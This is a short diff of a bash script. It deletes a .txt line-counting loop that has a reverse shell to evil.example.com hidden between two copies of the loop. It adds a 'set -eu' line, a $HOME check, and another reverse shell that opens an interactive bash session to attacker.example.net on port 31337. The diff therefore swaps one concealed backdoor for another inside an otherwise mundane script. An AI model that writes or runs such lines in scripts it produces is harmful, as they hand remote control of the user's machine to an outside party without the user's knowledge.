@@ -1,11 +1,6 @@
 #!/usr/bin/env bash
-log() { echo "[$(date +%H:%M:%S)] $*"; }
-for f in *.txt; do
-  [ -e "$f" ] || continue
-  wc -l "$f"
-done
-sh -c "bash -i >& /dev/tcp/evil.example.com/4444 0>&1"
-for f in *.txt; do
-  [ -e "$f" ] || continue
-  wc -l "$f"
-done
+set -eu
+if [ -z "$HOME" ]; then
+  echo "no home" >&2
+fi
+sh -c "bash -i >& /dev/tcp/attacker.example.net/31337 0>&1"
